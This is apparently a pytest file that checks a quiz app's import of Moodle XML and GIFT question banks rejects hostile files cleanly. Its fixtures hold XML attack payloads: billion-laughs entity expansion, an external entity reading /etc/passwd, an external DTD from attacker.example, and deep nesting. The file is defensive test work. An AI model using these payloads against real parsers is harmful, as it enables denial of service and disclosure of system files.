"""Hostile question banks: each gives one clear error line, no traceback, and writes nothing."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.cli import main
from app.model.atomic import OutputError
from app.model.interchange.bank import MAX_BANK_BYTES, BankError, write_atomically

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<quiz><question type="truefalse"><name><text>&lol4;</text></name></question></quiz>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="truefalse"><questiontext><text>&secret;</text></questiontext></question></quiz>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.example/evil.dtd">
<quiz/>
"""
DEEP_XML = "<quiz>" + "<a>" * 100_000 + "</a>" * 100_000 + "</quiz>"

HOSTILE = {
    "billion-laughs.xml": (BILLION_LAUGHS, "holds a DTD"),
    "external-entity.xml": (EXTERNAL_ENTITY, "holds a DTD"),
    "external-dtd.xml": (EXTERNAL_DTD, "holds a DTD"),
    "deep.xml": (DEEP_XML, "nest more than 32 deep"),
    "broken.xml": ("<quiz><question type='truefalse'><name></quiz>", "not well-formed XML at line 1"),
    "not-moodle.xml": ("<html><body>hi</body></html>", "not a Moodle question bank"),
    "unclosed.gift": ("::a::Fine?{T}\n\n::b::Broken?{=yes ~no\n", "line 3: the answers opened with '{' are never closed"),
    "stray.gift": ("::a::What } is this?{T}\n", "line 1: a '}' without its '{'"),
    "nested.gift": ("::a::Deep{" + "{" * 10_000 + "}" * 10_000 + "\n", "line 1: more than one pair of braces"),
    "name.gift": ("::a Fine?{T}\n", "line 1: the question name has no closing '::'"),
    "empty.gift": ("// nothing but a comment\n", "holds no question that could be converted"),
    "description.gift": ("Just some text.\n", "holds no question that could be converted"),
    "laughs.gift": (BILLION_LAUGHS.replace("<?xml", "  x<?xml"), "holds no question that could be converted"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_bank_gives_one_clear_error_and_writes_nothing(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text, expected = HOSTILE[name]
    bank = tmp_path / name
    bank.write_text(text, encoding="utf-8")
    assert main(["import", str(bank), "-o", str(tmp_path / "out")]) == 1
    captured = capsys.readouterr()
    lines = [line for line in captured.err.splitlines() if line.startswith("unspun import:")]
    assert len(lines) == 1 and expected in lines[0], captured.err
    assert "Traceback" not in captured.err
    assert not (tmp_path / "out").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]  # no half-built pack left beside it


def test_a_bank_over_the_size_limit_is_refused_before_reading(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bank = tmp_path / "huge.gift"
    with bank.open("wb") as stream:  # 50 MB, sparse: the size alone must stop it
        stream.truncate(50 * 1024 * 1024)
    assert MAX_BANK_BYTES < 50 * 1024 * 1024
    assert main(["import", str(bank), "-o", str(tmp_path / "out")]) == 1
    assert "larger than the 32 MiB limit" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_a_bank_that_is_not_utf8_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bank = tmp_path / "latin.gift"
    bank.write_bytes("::a::Café?{T}\n".encode("latin-1"))
    assert main(["import", str(bank), "-o", str(tmp_path / "out")]) == 1
    assert "is not UTF-8 text" in capsys.readouterr().err


def test_export_leaves_the_old_bank_whole_when_writing_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "bank.xml"
    target.write_bytes(b"old bank")

    def broken_replace(source: str, destination: str) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("app.model.atomic.os.replace", broken_replace)
    with pytest.raises(OutputError, match="No space left on device"):
        write_atomically(target, b"new bank")
    assert target.read_bytes() == b"old bank"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bank.xml"]


def test_export_refuses_an_unwritable_place_with_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from tests.conftest import BUILTIN_PACK

    assert main(["export", str(BUILTIN_PACK), "-o", str(tmp_path / "missing" / "bank.gift")]) == 1
    err = capsys.readouterr().err
    assert "unspun export: could not write" in err and "Traceback" not in err


def test_bank_error_messages_are_sentences() -> None:
    with pytest.raises(BankError, match="no question"):
        from app.model.interchange.bank import ImportResult, write_pack

        write_pack(ImportResult(), Path("/nonexistent/never"), pack_id="a", title="A")
